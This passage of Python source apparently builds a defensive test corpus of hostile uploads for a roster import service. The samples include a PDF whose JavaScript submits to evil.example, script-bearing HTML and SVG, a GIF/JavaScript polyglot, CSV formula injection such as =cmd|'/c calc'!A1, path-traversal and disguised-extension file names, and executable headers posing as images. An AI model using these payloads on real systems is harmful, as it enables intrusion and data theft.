def _build_xlsx() -> tuple[HostileFile, ...]:
    files = [_xlsx("roster_benign.xlsx", benign_xlsx(), "benign", "A valid roster: header row and one enterprise.")]
    for build in (_huge_references, _whitespace_bomb, _huge_cell, _many_empty_rows, _many_columns, _entity_files,
                  _lying_size, _zip_bombs, _not_zips, _formula_cells):  # fmt: skip
        files += build()
    return tuple(files)


# --- csv ----------------------------------------------------------------------------


def _csv(name: str, content: bytes, threat: str, description: str) -> HostileFile:
    return HostileFile(name, content, "csv", threat, description)


_CSV_HEADER = ",".join(ROSTER_HEADERS).encode() + b"\n"


def _build_csv() -> tuple[HostileFile, ...]:
    gbk_rows = "企业名称,统一社会信用代码\r\n北京桥梁测试科技有限公司," + uscc(5) + "\r\n"
    columns = ",".join([*ROSTER_HEADERS, *(f"c{index}" for index in range(3, MANY_COLUMNS + 1))])
    values = ",".join(["北京桥梁测试科技有限公司", uscc(6), *(str(index) for index in range(3, MANY_COLUMNS + 1))])
    formula = "".join(f'"{value.replace(chr(34), chr(34) * 2)}",{uscc(300 + n)}\n' for n, value in enumerate(
        FORMULA_VALUES))  # fmt: skip
    return (
        _csv("members.csv", f"\ufeff{gbk_rows}".encode(), "benign_bom",
             "A valid UTF-8 CSV with a byte-order mark and CRLF line ends: header and one enterprise."),
        _csv("members_gbk.csv", gbk_rows.encode("gbk"), "gbk_encoding",
             "A valid CSV encoded in GBK, as Excel on Chinese Windows saves it (not valid UTF-8): accept it as GBK."),
        _csv("members_2m_lines.csv", _CSV_HEADER + b"a,1\n" * CSV_MANY_LINES, "many_lines",
             f"The header, then {CSV_MANY_LINES:,} rows (8 MB, under the {IMPORT_LIMIT_BYTES // MIB} MB import "
             f"limit), ten times the roster's {ROSTER_MAX_ROWS:,} rows; every row is invalid."),
        _csv("members_long_line.csv", _CSV_HEADER.ljust(len(_CSV_HEADER) + CSV_LONG_LINE_BYTES, b"x"), "long_line",
             f"The header, then one line of {CSV_LONG_LINE_BYTES:,} bytes without a line end (19 MiB, just under the "
             f"{IMPORT_LIMIT_BYTES // MIB} MB import limit; Python's csv field limit is 128 KiB, Excel's cell "
             "32,767 characters). Its 300 MiB sibling is streamed: see streamed_files()."),
        _csv("members_many_columns.csv", f"{columns}\n{values}\n".encode(), "many_columns",
             f"A header and one row of {MANY_COLUMNS:,} columns each."),
        _csv("members_nul.csv", _CSV_HEADER + "企业\0名称,".encode() + uscc(7).encode() + b"\n" + b"\0" * 4096 + b"\n",
             "nul_bytes", "NUL bytes inside a name, then a line of 4,096 NUL bytes."),
        _csv("members_invalid_utf8.csv", _CSV_HEADER + b"\xff\xfe\xc3(\xa0\xa1\xff," + uscc(8).encode() + b"\n",
             "invalid_utf8", "A name of bytes that are invalid in UTF-8, GBK and GB18030 alike (0xFF lead bytes)."),
        _csv("members_formula.csv", _CSV_HEADER + formula.encode(), "formula_cells",
             "Names starting with =, +, - or @ (=HYPERLINK(...), =cmd|'/c calc'!A1, ...): accept them as text, "
             "never export them as formulas."),
    )  # fmt: skip


_STREAMED = {
    "members_long_line_300mb.csv": StreamedFile(
        "members_long_line_300mb.csv", len(_CSV_HEADER) + STREAMED_LONG_LINE_BYTES + 1, "csv", "long_line",
        f"The header, then one line of {STREAMED_LONG_LINE_BYTES:,} bytes (300 MiB), fifteen times the "
        f"{IMPORT_LIMIT_BYTES // MIB} MB import limit: refuse it from its size, before reading it.",
    ),
}  # fmt: skip


def _stream_long_line(chunk_size: int) -> Iterator[bytes]:
    yield _CSV_HEADER
    chunk = b"x" * chunk_size
    full, rest = divmod(STREAMED_LONG_LINE_BYTES, chunk_size)
    for _ in range(full):
        yield chunk
    yield b"x" * rest + b"\n"


# --- attachments --------------------------------------------------------------------


def _attachment(name: str, content: bytes, threat: str, description: str) -> HostileFile:
    return HostileFile(name, content, "attachment", threat, description)


def pdf_document(objects: Sequence[bytes], version: bytes = b"1.4") -> bytes:
    """Return a well-formed PDF: header, numbered objects (object 1 is the catalogue), cross-reference table."""
    parts = [b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"]
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = sum(map(len, parts))
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table))
    parts.append(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return b"".join(parts)


def _page_objects(catalogue_extra: bytes = b"") -> list[bytes]:
    content = b"0.2 0.4 0.8 rg 20 20 160 160 re f"
    return [
        b"<< /Type /Catalog /Pages 2 0 R" + catalogue_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ]


def minimal_pdf() -> bytes:
    """Return a valid one-page PDF with a blue square."""
    return pdf_document(_page_objects())


def javascript_pdf() -> bytes:
    """Return a valid one-page PDF that runs JavaScript on opening (/OpenAction and a /Names /JavaScript tree)."""
    objects = _page_objects(b" /OpenAction 5 0 R /Names << /JavaScript 6 0 R >>")
    objects += [
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.example'\\);) >>",
        b"<< /Names [(open) 5 0 R] >>",
    ]
    return pdf_document(objects, b"1.7")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def minimal_png() -> bytes:
    """Return a valid 1x1 RGB PNG (one white pixel)."""
    header = struct.pack(">2L5B", 1, 1, 8, 2, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff", 9))
        + _png_chunk(b"IEND", b"")
    )


def minimal_jpeg() -> bytes:
    """Return a valid 1x1 greyscale baseline JPEG: one 8x8 block, Huffman tables of one code each."""

    def segment(marker: int, payload: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload

    one_code = bytes([1] + [0] * 15) + b"\x00"  # one symbol (0x00) with a code of length 1
    return b"".join([
        b"\xff\xd8",
        segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
        segment(0xDB, b"\x00" + b"\x01" * 64),
        segment(0xC0, b"\x08\x00\x01\x00\x01\x01\x01\x11\x00"),
        segment(0xC4, b"\x00" + one_code),  # DC table 0: difference category 0
        segment(0xC4, b"\x10" + one_code),  # AC table 0: end of block
        segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
        b"\x3f",  # bits 0 (DC 0) and 0 (EOB), padded with ones
        b"\xff\xd9",
    ])  # fmt: skip


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, _ZIP_EPOCH), data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def minimal_docx() -> bytes:
    """Return a valid one-paragraph Word document."""
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return _zip({
        "[Content_Types].xml": (
            f'{_XML.decode()}<Types xmlns="{_CONTENT_TYPES_NS}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{document_type}"/></Types>'
        ).encode(),
        "_rels/.rels": _relationships([("officeDocument", "word/document.xml")]),
        "word/document.xml": (
            f'{_XML.decode()}<w:document xmlns:w="{word}"><w:body><w:p><w:r><w:t>桥梁供需对接说明</w:t></w:r></w:p>'
            "</w:body></w:document>"
        ).encode(),
    })  # fmt: skip


def gif_js_polyglot() -> bytes:
    """Return a file that is both a valid 10,799x1 GIF and the script `GIF89a = alert(1);`."""

    def comment(text: bytes) -> bytes:
        return b"\x21\xfe" + bytes([len(text)]) + text + b"\x00"

    return b"".join([
        b"GIF89a", b"/*", b"\x01\x00", b"\x80\x00\x00",  # width 0x2A2F opens a JS comment; height 1; 2-colour table
        b"\xff\xff\xff\x00\x00\x00",
        comment(b"*/=alert(1);/*"),  # a GIF comment closes the JS comment around the script
        b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00",  # one pixel
        comment(b"*///"),  # closes the JS comment; a line comment hides the rest (no newline follows)
        b";",
    ])  # fmt: skip


def elf_header() -> bytes:
    """Return the 64-byte header of an x86-64 Linux executable, padded to 4 KiB."""
    header = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHLQQQLHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0,
                                                              64, 56, 1, 0, 0, 0)  # fmt: skip
    return header + bytes(4 * KIB - len(header))


def pe_header() -> bytes:
    """Return the MS-DOS stub and PE signature of a Windows executable, padded to 4 KiB."""
    stub = b"MZ" + bytes(58) + struct.pack("<L", 0x80)
    stub += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    stub += bytes(0x80 - len(stub)) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 0)
    return stub + bytes(4 * KIB - len(stub))


def ole2_file() -> bytes:
    """Return an empty OLE2 compound file (header, one FAT sector, one directory sector with the root entry)."""
    free, end, fat, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    header = struct.pack("<8s16s5H6s9L", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), 0x3E, 3, 0xFFFE, 9, 6,
                         bytes(6), 0, 1, 1, 0, 4096, end, 0, end, 0)  # fmt: skip
    header += struct.pack("<109L", 0, *[free] * 108)
    fat_sector = struct.pack("<128L", fat, end, *[free] * 126)
    entry = struct.Struct("<64sHBB3L16sL2QLQ")
    root = entry.pack("Root Entry".encode("utf-16-le"), 22, 5, 1, no_stream, no_stream, no_stream, bytes(16),
                      0, 0, 0, end, 0)  # fmt: skip
    unused = entry.pack(b"", 0, 0, 0, no_stream, no_stream, no_stream, bytes(16), 0, 0, 0, 0, 0)
    return header + fat_sector + root + unused * 3


_HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def _build_attachments() -> tuple[HostileFile, ...]:
    pdf = minimal_pdf()
    return (
        _attachment("brochure.pdf", pdf, "benign", "A valid one-page PDF."),
        _attachment("pixel.png", minimal_png(), "benign", "A valid 1x1 PNG."),
        _attachment("pixel.jpg", minimal_jpeg(), "benign", "A valid 1x1 JPEG."),
        _attachment("note.docx", minimal_docx(), "benign", "A valid one-paragraph DOCX."),
        _attachment("sheet.xlsx", benign_xlsx(), "benign", "A valid XLSX roster."),
        _attachment("logo.png", PNG_SIGNATURE + b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                    b"<script>alert(1)</script></svg>\n", "png_svg_script",
                    "The PNG signature, then an SVG with a script: served inline as SVG it runs."),
        _attachment("offer.pdf", b"%PDF-1.7\n" + _HTML, "pdf_html",
                    "A %PDF-1.7 header, then HTML with a script: passes a magic-byte check, sniffed as HTML."),
        _attachment("report.docx", b"PK\x03\x04" + random.Random(2).randbytes(4 * KIB), "fake_zip_header",
                    "A zip local-header signature, then 4 KiB of random bytes: not a zip at all."),
        _attachment("proposal.docx", _zip({"readme.txt": b"not a document\n", "run.sh": b"#!/bin/sh\nid\n"}),
                    "zip_not_docx", "A real zip without [Content_Types].xml or word/document.xml."),
        _attachment("plan.docx", benign_xlsx(), "xlsx_as_docx", "A valid XLSX workbook renamed .docx."),
        _attachment("picture.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + _HTML,
                    "jpeg_html", "A JPEG SOI and JFIF segment, then HTML with a script."),
        _attachment("avatar.png", gif_js_polyglot(), "polyglot_gif_js",
                    "A valid GIF that is also the script GIF89a=alert(1), named .png."),
        _attachment("contract.pdf", javascript_pdf(), "pdf_javascript",
                    "A valid one-page PDF with /OpenAction and /Names /JavaScript actions that run on opening."),
        _attachment("photo.jpg", elf_header(), "executable", "A Linux x86-64 ELF executable header named .jpg."),
        _attachment("licence.png", pe_header(), "executable", "A Windows PE executable (MZ stub) named .png."),
        _attachment("..\\..\\evil.pdf", pdf, "path_traversal", "A valid PDF named ..\\..\\evil.pdf (Windows)."),
        _attachment("../../evil.pdf", pdf, "path_traversal", "A valid PDF named ../../evil.pdf."),
        _attachment("report.exe\0.pdf", pdf, "nul_in_name",
                    "A valid PDF named report.exe<NUL>.pdf: a C layer truncates the name to report.exe."),
        _attachment("invoice\u202efdp.exe", pdf, "rtl_override_name",
                    "A valid PDF named invoice<U+202E>fdp.exe, shown as invoiceexe.pdf; it is an .exe name."),
    )  # fmt: skip


# --- the corpus ---------------------------------------------------------------------


@functools.cache
def _xlsx_files() -> tuple[HostileFile, ...]:
    return _build_xlsx()


@functools.cache
def _csv_files() -> tuple[HostileFile, ...]:
    return _build_csv()


@functools.cache
def _attachment_files() -> tuple[HostileFile, ...]:
    return _build_attachments()


def xlsx_files() -> list[HostileFile]:
    """Return the files for the Excel import paths (built once, then cached)."""
    return list(_xlsx_files())


def csv_files() -> list[HostileFile]:
    """Return the files for the CSV import paths (built once, then cached)."""
    return list(_csv_files())


def attachment_files() -> list[HostileFile]:
    """Return the files for the attachment and licence upload paths (built once, then cached)."""
    return list(_attachment_files())


def all_files() -> list[HostileFile]:
    """Return every file of the corpus (built once, then cached)."""
    return [*_xlsx_files(), *_csv_files(), *_attachment_files()]


def find(name: str) -> HostileFile:
    """Return the corpus file of that name."""
    for hostile in all_files():
        if hostile.name == name:
            return hostile
    raise KeyError(name)


def streamed_files() -> list[StreamedFile]:
    """Return the files too large to hold in memory; read them with stream(name)."""
    return list(_STREAMED.values())


def stream(name: str, chunk_size: int = MIB) -> Iterator[bytes]:
    """Yield the bytes of a corpus or streamed file in chunks, without holding a streamed file in memory."""
    if name == "members_long_line_300mb.csv":
        yield from _stream_long_line(chunk_size)
        return
    content = find(name).content
    for start in range(0, len(content), chunk_size):
        yield content[start : start + chunk_size]
